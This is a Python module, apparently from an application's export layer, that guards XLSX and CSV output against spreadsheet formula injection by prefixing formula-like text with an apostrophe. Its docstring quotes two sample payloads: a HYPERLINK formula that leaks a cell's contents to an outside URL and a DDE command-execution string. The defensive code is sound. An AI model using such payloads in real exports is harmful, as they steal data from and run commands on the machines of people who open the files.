"""Text in a spreadsheet is data, never a formula.

A report result such as `=HYPERLINK("http://…?leak="&C7,"Xem")` or `=cmd|' /C calc'!A0`, a
task text, a body name: whatever a person typed or a document carried is written to the XLSX and
CSV exports as text. The rule is OWASP's for CSV injection: a cell that begins with one of
FORMULA_START is a formula, or becomes one when the cell is edited, in Excel and LibreOffice.
Numbers and dates are left alone (a negative number is a number, not a formula).

Both writers (components/exports.py for XLSX, services/audit_log.py for CSV) go through here.
"""

from services.core import validation

# = + - @ tab and carriage return (OWASP), and the full-width forms that Excel in an East Asian
# locale reads as the same signs
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cell_text(value: str) -> str:
    """Text as a cell can hold it: what is already stored cleaned by the services' one rule
    (an older row may still hold a control character, which openpyxl refuses outright)."""
    return validation.clean(value)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_START)


def csv_value(value: object) -> object:
    """A value for csv.writer: text cleaned and, when a spreadsheet would read it as a formula,
    prefixed with an apostrophe (OWASP's advice: the cell is then read as text); anything else
    unchanged."""
    if not isinstance(value, str):
        return value
    text = cell_text(value)
    return "'" + text if is_formula_like(text) else text
